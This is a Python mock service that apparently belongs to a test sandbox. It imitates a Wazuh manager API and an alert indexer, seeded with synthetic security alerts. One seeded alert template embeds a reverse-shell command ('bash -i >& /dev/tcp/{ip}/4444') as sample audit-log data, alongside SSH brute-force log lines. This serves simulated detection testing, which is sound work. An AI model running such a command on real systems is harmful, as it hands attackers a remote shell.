"""Wazuh: the manager API (JWT login, ``GET /agents``) and the indexer's ``wazuh-alerts-*`` search.

Agents are the lab's nodes and running containers (stopped ones are ``disconnected``, plus one
``never_connected`` enrolment); alerts are seeded over the last days with realistic rules, levels,
source IPs and ``full_log`` lines in the indexer's document shape (``timestamp`` as
``YYYY-MM-DDTHH:MM:SS.mmm+0000``). The search endpoint understands the query shapes a client sends
for a digest: ``bool`` ``filter``/``must`` of ``range`` (dates with ``now-Nh`` math or ISO values,
numbers), ``term``/``terms``/``match``, ``size``, ``from``, ``sort`` and ``terms`` aggregations.

Faults: system ``wazuh_api`` and ``wazuh_indexer``. Control: ``add_alerts`` ({"alerts": [...]}),
``clear_alerts``, ``set_agent`` ({"name":..., "status":...}), ``state``.
"""

from __future__ import annotations

import base64
import json
import re
import secrets
import time
from datetime import UTC, datetime, timedelta
from typing import Any

from aiohttp import web

from sandbox.service import Context, Service
from sandbox.services import ca_bundle_path, write_secret
from sandbox.web import fault_middleware, serve

TOKEN_TTL_S = 900
# (rule id, level, description, groups, decoder, log template); {ip} {user} {host} filled in.
RULES: list[tuple[str, int, str, list[str], str, str]] = [
    (
        "5710",
        5,
        "sshd: Attempt to login using a non-existent user",
        ["syslog", "sshd", "authentication_failed", "invalid_login"],
        "sshd",
        "{ts} {host} sshd[{pid}]: Invalid user {user} from {ip} port {port}",
    ),
    (
        "5712",
        10,
        "sshd: brute force trying to get access to the system. Non existent user.",
        ["syslog", "sshd", "authentication_failures"],
        "sshd",
        "{ts} {host} sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port}"
        " ssh2",
    ),
    (
        "5720",
        10,
        "sshd: Multiple authentication failures.",
        ["syslog", "sshd", "authentication_failures"],
        "sshd",
        "{ts} {host} sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2",
    ),
    (
        "5402",
        3,
        "Successful sudo to ROOT executed.",
        ["syslog", "sudo"],
        "sudo",
        "{ts} {host} sudo:    {user} : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/apt",
    ),
    (
        "5503",
        5,
        "PAM: User login failed.",
        ["pam", "syslog", "authentication_failed"],
        "pam",
        "{ts} {host} sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 "
        "euid=0 tty=ssh ruser= rhost={ip}  user={user}",
    ),
    (
        "550",
        7,
        "Integrity checksum changed.",
        ["ossec", "syscheck", "syscheck_file"],
        "syscheck",
        "File '/etc/ssh/sshd_config' modified",
    ),
    (
        "510",
        7,
        "Host-based anomaly detection event (rootcheck).",
        ["ossec", "rootcheck"],
        "rootcheck",
        "Trojaned version of file '/bin/diff' detected.",
    ),
    (
        "31151",
        10,
        "Multiple web server 400 error codes from same source ip.",
        ["web", "accesslog", "web_scan", "recon"],
        "web-accesslog",
        '{ip} - - [{ts}] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
    ),
    (
        "100210",
        12,
        "Possible reverse shell spawned by a web process.",
        ["local", "attack", "audit"],
        "auditd",
        'type=EXECVE msg=audit({epoch}): argc=3 a0="bash" a1="-c" '
        'a2="bash -i >& /dev/tcp/{ip}/4444"',
    ),
]
SOURCE_IPS = ["203.0.113.7", "198.51.100.23", "192.0.2.45", "203.0.113.88"]
USERS = ["admin", "oracle", "ubuntu", "test", "git"]


def _ts(when: datetime) -> str:
    return when.strftime("%Y-%m-%dT%H:%M:%S.") + f"{when.microsecond // 1000:03d}+0000"


def _parse_date(value: Any, now: datetime) -> datetime:
    if isinstance(value, int | float):
        return datetime.fromtimestamp(value / 1000, UTC)
    text = str(value).strip()
    m = re.fullmatch(r"now(?:-(\d+)([smhdw]))?(?:/[smhd])?", text)
    if m:
        if not m.group(1):
            return now
        unit = {"s": 1, "m": 60, "h": 3600, "d": 86400, "w": 604800}[m.group(2)]
        return now - timedelta(seconds=int(m.group(1)) * unit)
    parsed = datetime.fromisoformat(text.replace("Z", "+00:00"))
    return parsed if parsed.tzinfo else parsed.replace(tzinfo=UTC)


def _get(doc: dict[str, Any], dotted: str) -> Any:
    cur: Any = doc
    for part in dotted.split("."):
        if not isinstance(cur, dict) or part not in cur:
            return None
        cur = cur[part]
    return cur


class WazuhService(Service):
    name = "wazuh"

    def __init__(self, ctx: Context) -> None:
        super().__init__(ctx)
        self.api_user = "wazuh-wui"
        self.api_password = secrets.token_urlsafe(16)
        self.indexer_user = "admin"
        self.indexer_password = secrets.token_urlsafe(16)
        self.tokens: dict[str, float] = {}
        self.agents: list[dict[str, Any]] = []
        self.alerts: list[dict[str, Any]] = []
        self.api_port = 0
        self.indexer_port = 0
        self._runners: list[web.AppRunner] = []
        self.searches: list[dict[str, Any]] = []

    # -- seed ---------------------------------------------------------------------------------

    def _seed(self) -> None:
        lab = self.ctx.lab
        now = datetime.now(UTC)
        agents: list[dict[str, Any]] = [
            {
                "id": "000",
                "name": "wazuh",
                "ip": "127.0.0.1",
                "registerIP": "127.0.0.1",
                "status": "active",
                "status_code": 0,
                "node_name": "node01",
                "version": "Wazuh v4.14.1",
                "manager": "wazuh",
                "dateAdd": "2024-02-14T09:59:19+00:00",
                "lastKeepAlive": "9999-12-31T23:59:59+00:00",
                "group_config_status": "synced",
            }
        ]
        hosts = [(n.name, n.ip, n.online) for n in lab.nodes]
        hosts += [
            (g.name, g.ip, g.status == "running")
            for g in lab.guests
            if g.type == "lxc" and not g.template
        ]
        for i, (name, ip, up) in enumerate(hosts, start=1):
            keepalive = now - (timedelta(seconds=30) if up else timedelta(hours=30))
            agents.append(
                {
                    "id": f"{i:03d}",
                    "name": name,
                    "ip": ip,
                    "registerIP": "any",
                    "status": "active" if up else "disconnected",
                    "status_code": 0 if up else 4,
                    "os": {
                        "arch": "x86_64",
                        "codename": "bookworm",
                        "major": "12",
                        "name": "Debian GNU/Linux",
                        "platform": "debian",
                        "version": "12",
                    },
                    "version": "Wazuh v4.14.1",
                    "manager": "wazuh",
                    "node_name": "node01",
                    "dateAdd": "2024-02-14T09:59:19+00:00",
                    "lastKeepAlive": keepalive.strftime("%Y-%m-%dT%H:%M:%S+00:00"),
                    "group": ["default"],
                    "group_config_status": "synced",
                }
            )
        agents.append(
            {
                "id": f"{len(hosts) + 1:03d}",
                "name": "new-ct-enrolled",
                "ip": "any",
                "registerIP": "any",
                "status": "never_connected",
                "status_code": 0,
                "node_name": "unknown",
                "dateAdd": (now - timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%SZ"),
                "group_config_status": "not synced",
            }
        )
        self.agents = agents
        rng = self.ctx.rng
        targets = [a for a in agents[1:6] if a["status"] == "active"]
        alerts = []
        for n in range(120):
            rule = RULES[n % len(RULES)] if n % 7 else RULES[1]
            agent = targets[n % len(targets)]
            when = now - timedelta(minutes=rng.randint(5, 60 * 40))
            alerts.append(
                self._alert_doc(
                    rule, agent, when, SOURCE_IPS[n % len(SOURCE_IPS)], USERS[n % len(USERS)], n
                )
            )
        self.alerts = alerts

    def _alert_doc(
        self,
        rule: tuple[str, int, str, list[str], str, str],
        agent: dict[str, Any],
        when: datetime,
        ip: str,
        user: str,
        n: int,
    ) -> dict[str, Any]:
        rule_id, level, description, groups, decoder, template = rule
        log = template.format(
            ts=when.strftime("%b %d %H:%M:%S"),
            host=agent["name"],
            pid=1000 + n,
            user=user,
            ip=ip,
            port=40000 + n,
            epoch=f"{when.timestamp():.3f}:{n}",
        )
        data: dict[str, Any] = {}
        if "{ip}" in template:
            data["srcip"] = ip
        if "{user}" in template:
            data["srcuser" if decoder != "sudo" else "dstuser"] = user
        stamp = _ts(when)
        return {
            "timestamp": stamp,
            "@timestamp": when.strftime("%Y-%m-%dT%H:%M:%S.") + f"{when.microsecond // 1000:03d}Z",
            "rule": {
                "level": level,
                "description": description,
                "id": rule_id,
                "groups": groups,
                "firedtimes": 1 + n % 9,
                "mail": level >= 12,
            },
            "agent": {"id": agent["id"], "name": agent["name"], "ip": agent["ip"]},
            "manager": {"name": "wazuh"},
            "id": f"{int(when.timestamp())}.{n}",
            "full_log": log,
            "decoder": {"name": decoder},
            "data": data,
            "location": "/var/log/auth.log" if decoder in ("sshd", "sudo", "pam") else decoder,
        }

    # -- lifecycle ----------------------------------------------------------------------------

    async def start(self) -> None:
        self._seed()
        self.api_port = self.ctx.port()
        self.indexer_port = self.ctx.port()
        api = web.Application(middlewares=[fault_middleware(self.ctx, "wazuh_api")])
        api.router.add_post("/security/user/authenticate", self.authenticate)
        api.router.add_get("/agents", self.list_agents)
        api.router.add_get("/", self.api_root)
        idx = web.Application(
            middlewares=[fault_middleware(self.ctx, "wazuh_indexer")], client_max_size=8 * 1024**2
        )
        idx.router.add_route("*", "/{index}/_search", self.search)
        idx.router.add_get("/", self.indexer_root)
        names = ["localhost", "wazuh.lab.internal"]
        self._runners = [
            await serve(self.ctx, api, self.api_port, tls_names=names),
            await serve(self.ctx, idx, self.indexer_port, tls_names=names),
        ]

    async def stop(self) -> None:
        for runner in self._runners:
            await runner.cleanup()

    def config_fragment(self) -> dict[str, Any]:
        host, ca = self.ctx.host, str(ca_bundle_path(self.ctx))
        return {
            "systems": {
                "wazuh": {
                    "api": {
                        "url": f"https://{host}:{self.api_port}",
                        "username": self.api_user,
                        "password": write_secret(self.ctx, "wazuh_api_password", self.api_password),
                        "tls": {"ca_bundle": ca},
                    },
                    "indexer": {
                        "url": f"https://{host}:{self.indexer_port}",
                        "username": self.indexer_user,
                        "password": write_secret(
                            self.ctx, "wazuh_indexer_password", self.indexer_password
                        ),
                        "tls": {"ca_bundle": ca},
                    },
                }
            }
        }

    def control(self, action: str, payload: dict[str, Any]) -> dict[str, Any]:
        if action == "add_alerts":
            self.alerts.extend(payload.get("alerts") or [])
            return {"alerts": len(self.alerts)}
        if action == "clear_alerts":
            self.alerts = []
            return {"alerts": 0}
        if action == "set_agent":
            for a in self.agents:
                if a["name"] == payload["name"]:
                    a["status"] = payload["status"]
                    return {"agent": a}
            raise KeyError(f"no agent {payload['name']}")
        if action == "state":
            return {
                "api_port": self.api_port,
                "indexer_port": self.indexer_port,
                "alerts": len(self.alerts),
                "agents": len(self.agents),
                "searches": self.searches[-20:],
                "api_user": self.api_user,
                "indexer_user": self.indexer_user,
            }
        raise KeyError(action)

    # -- manager API --------------------------------------------------------------------------

    async def api_root(self, request: web.Request) -> web.Response:
        if not self._token_ok(request):
            return _unauthorized("No authorization token provided")
        return web.json_response(
            {"data": {"title": "Wazuh API REST", "api_version": "4.14.1"}, "error": 0}
        )

    async def authenticate(self, request: web.Request) -> web.Response:
        user, password = _basic(request) or ("", "")
        if user != self.api_user or password != self.api_password:
            return _unauthorized("Invalid credentials")
        header = base64.urlsafe_b64encode(b'{"alg":"ES512","typ":"JWT"}').rstrip(b"=").decode()
        body = (
            base64.urlsafe_b64encode(
                json.dumps(
                    {"iss": "wazuh", "sub": user, "exp": int(time.time()) + TOKEN_TTL_S}
                ).encode()
            )
            .rstrip(b"=")
            .decode()
        )
        token = f"{header}.{body}.{secrets.token_urlsafe(32)}"
        self.tokens[token] = time.time() + TOKEN_TTL_S
        if request.query.get("raw") == "true":
            return web.Response(text=token, content_type="text/plain")
        return web.json_response({"data": {"token": token}, "error": 0})

    def _token_ok(self, request: web.Request) -> bool:
        auth = request.headers.get("Authorization", "")
        if not auth.startswith("Bearer "):
            return False
        expiry = self.tokens.get(auth.removeprefix("Bearer ").strip())
        return expiry is not None and expiry > time.time()

    async def list_agents(self, request: web.Request) -> web.Response:
        if not request.headers.get("Authorization"):
            return _unauthorized("No authorization token provided")
        if not self._token_ok(request):
            return _unauthorized("Invalid token")
        q = request.query
        items = list(self.agents)
        if q.get("status"):
            wanted = set(q["status"].split(","))
            bad = wanted - {"active", "pending", "never_connected", "disconnected"}
            if bad:
                return web.json_response(
                    {
                        "title": "Bad Request",
                        "detail": f"'{','.join(sorted(bad))}' is not one of "
                        "['active', 'pending', 'never_connected', 'disconnected']",
                    },
                    status=400,
                )
            items = [a for a in items if a["status"] in wanted]
        if q.get("name"):
            items = [a for a in items if a["name"] == q["name"]]
        total = len(items)
        try:
            offset, limit = int(q.get("offset", 0)), int(q.get("limit", 500))
        except ValueError:
            return web.json_response(
                {"title": "Bad Request", "detail": "bad offset/limit"}, status=400
            )
        items = items[offset : offset + min(limit, 100000)]
        if q.get("select"):
            fields = [f.strip() for f in q["select"].split(",") if f.strip()]
            items = [_select(a, ["id", *fields]) for a in items]
        return web.json_response(
            {
                "data": {
                    "affected_items": items,
                    "total_affected_items": total,
                    "total_failed_items": 0,
                    "failed_items": [],
                },
                "message": "All selected agents information was returned"
                if total
                else "No agent information was returned",
                "error": 0,
            }
        )

    # -- indexer ------------------------------------------------------------------------------

    async def indexer_root(self, request: web.Request) -> web.Response:
        if _basic(request) != (self.indexer_user, self.indexer_password):
            return _indexer_unauthorized()
        return web.json_response(
            {
                "name": "wazuh-indexer",
                "cluster_name": "wazuh-cluster",
                "version": {"distribution": "opensearch", "number": "2.19.1"},
                "tagline": "The OpenSearch Project: https://opensearch.org/",
            }
        )

    async def search(self, request: web.Request) -> web.Response:
        if _basic(request) != (self.indexer_user, self.indexer_password):
            return _indexer_unauthorized()
        index = request.match_info["index"]
        if not re.fullmatch(r"wazuh-alerts-[\w.*-]*|wazuh-alerts\*?", index):
            return web.json_response(
                {
                    "error": {
                        "type": "index_not_found_exception",
                        "reason": f"no such index [{index}]",
                    },
                    "status": 404,
                },
                status=404,
            )
        try:
            body = await request.json() if request.can_read_body else {}
        except json.JSONDecodeError:
            return _bad_query("request body is not JSON")
        self.searches.append(body)
        started = time.monotonic()
        now = datetime.now(UTC)
        try:
            matched = [d for d in self.alerts if _matches(body.get("query") or {}, d, now)]
            matched = _sort(matched, body.get("sort"))
            size, start = int(body.get("size", 10)), int(body.get("from", 0))
            if size + start > 10000:
                return _bad_query(
                    "Result window is too large, from + size must be less than or equal to: [10000]"
                )
            aggs = _aggregate(body.get("aggs") or body.get("aggregations") or {}, matched)
        except (ValueError, KeyError, TypeError) as exc:
            return _bad_query(str(exc))
        hits = [
            {
                "_index": f"wazuh-alerts-4.x-{d['timestamp'][:10].replace('-', '.')}",
                "_id": d["id"],
                "_score": None,
                "_source": d,
            }
            for d in matched[start : start + size]
        ]
        out: dict[str, Any] = {
            "took": int((time.monotonic() - started) * 1000),
            "timed_out": False,
            "_shards": {"total": 3, "successful": 3, "skipped": 0, "failed": 0},
            "hits": {
                "total": {"value": len(matched), "relation": "eq"},
                "max_score": None,
                "hits": hits,
            },
        }
        if aggs:
            out["aggregations"] = aggs
        return web.json_response(out)


def _select(doc: dict[str, Any], fields: list[str]) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for field in fields:
        value = _get(doc, field)
        if value is None:
            continue
        cur = out
        parts = field.split(".")
        for part in parts[:-1]:
            cur = cur.setdefault(part, {})
        cur[parts[-1]] = value
    return out


def _matches(query: dict[str, Any], doc: dict[str, Any], now: datetime) -> bool:
    if not query or "match_all" in query:
        return True
    if "bool" in query:
        b = query["bool"]
        for key in ("filter", "must"):
            clauses = b.get(key) or []
            clauses = clauses if isinstance(clauses, list) else [clauses]
            if not all(_matches(c, doc, now) for c in clauses):
                return False
        nots = b.get("must_not") or []
        nots = nots if isinstance(nots, list) else [nots]
        if any(_matches(c, doc, now) for c in nots):
            return False
        shoulds = b.get("should") or []
        return not shoulds or any(_matches(c, doc, now) for c in shoulds)
    if "range" in query:
        ((field, cond),) = query["range"].items()
        value = _get(doc, field)
        if value is None:
            return False
        if field in ("timestamp", "@timestamp"):
            have: Any = _parse_date(value, now)
            conv: Any = lambda v: _parse_date(v, now)  # noqa: E731
        else:
            have, conv = float(value), float
        ops = {
            "gte": lambda a, b: a >= b,
            "gt": lambda a, b: a > b,
            "lte": lambda a, b: a <= b,
            "lt": lambda a, b: a < b,
        }
        return all(ops[op](have, conv(v)) for op, v in cond.items() if op in ops)
    if "term" in query:
        ((field, want),) = query["term"].items()
        want = want.get("value") if isinstance(want, dict) else want
        return _field_has(doc, field, want)
    if "terms" in query:
        ((field, wants),) = query["terms"].items()
        return any(_field_has(doc, field, w) for w in wants)
    if "match" in query:
        ((field, want),) = query["match"].items()
        want = want.get("query") if isinstance(want, dict) else want
        return str(want).lower() in str(_get(doc, field) or "").lower()
    if "exists" in query:
        return _get(doc, query["exists"]["field"]) is not None
    raise ValueError(f"unsupported query clause {next(iter(query))!r}")


def _field_has(doc: dict[str, Any], field: str, want: Any) -> bool:
    value = _get(doc, field)
    if isinstance(value, list):
        return want in value
    return value is not None and str(value) == str(want)


def _sort(docs: list[dict[str, Any]], sort: Any) -> list[dict[str, Any]]:
    if not sort:
        return docs
    for spec in reversed(sort if isinstance(sort, list) else [sort]):
        if isinstance(spec, str):
            field, order = spec, "asc"
        else:
            ((field, opts),) = spec.items()
            order = opts.get("order", "asc") if isinstance(opts, dict) else str(opts)
        docs = sorted(
            docs,
            key=lambda d: (_get(d, field) is None, _sortable(_get(d, field))),
            reverse=order == "desc",
        )
    return docs


def _sortable(value: Any) -> Any:
    if isinstance(value, str) and re.match(r"\d{4}-\d\d-\d\dT", value):
        return _parse_date(value, datetime.now(UTC)).timestamp()
    return value if value is not None else 0


def _aggregate(aggs: dict[str, Any], docs: list[dict[str, Any]]) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for name, spec in aggs.items():
        sub = spec.get("aggs") or spec.get("aggregations") or {}
        if "terms" in spec:
            field, size = spec["terms"]["field"], int(spec["terms"].get("size", 10))
            buckets: dict[Any, list[dict[str, Any]]] = {}
            for d in docs:
                value = _get(d, field)
                for v in value if isinstance(value, list) else [value]:
                    if v is not None:
                        buckets.setdefault(v, []).append(d)
            ordered = sorted(buckets.items(), key=lambda kv: (-len(kv[1]), str(kv[0])))
            out[name] = {
                "doc_count_error_upper_bound": 0,
                "sum_other_doc_count": sum(len(v) for _, v in ordered[size:]),
                "buckets": [
                    {"key": k, "doc_count": len(v), **_aggregate(sub, v)} for k, v in ordered[:size]
                ],
            }
        elif "min" in spec or "max" in spec:
            kind = "min" if "min" in spec else "max"
            values = [_sortable(_get(d, spec[kind]["field"])) for d in docs]
            values = [v for v in values if v is not None]
            result = (min if kind == "min" else max)(values) if values else None
            out[name] = {"value": result * 1000 if isinstance(result, float) else result}
        elif "top_hits" in spec:
            size = int(spec["top_hits"].get("size", 3))
            chosen = _sort(docs, spec["top_hits"].get("sort"))[:size]
            out[name] = {
                "hits": {
                    "total": {"value": len(docs), "relation": "eq"},
                    "hits": [{"_id": d["id"], "_source": d} for d in chosen],
                }
            }
        else:
            raise ValueError(f"unsupported aggregation in {name!r}")
    return out


def _basic(request: web.Request) -> tuple[str, str] | None:
    auth = request.headers.get("Authorization", "")
    if not auth.startswith("Basic "):
        return None
    try:
        user, _, password = base64.b64decode(auth[6:]).decode().partition(":")
    except ValueError:
        return None
    return user, password


def _unauthorized(detail: str) -> web.Response:
    return web.json_response({"title": "Unauthorized", "detail": detail}, status=401)


def _indexer_unauthorized() -> web.Response:
    return web.Response(
        status=401,
        text="Unauthorized",
        headers={"WWW-Authenticate": 'Basic realm="OpenSearch Security"'},
    )


def _bad_query(reason: str) -> web.Response:
    return web.json_response(
        {
            "error": {
                "root_cause": [{"type": "parsing_exception", "reason": reason}],
                "type": "search_phase_execution_exception",
                "reason": reason,
            },
            "status": 400,
        },
        status=400,
    )


SERVICE = WazuhService
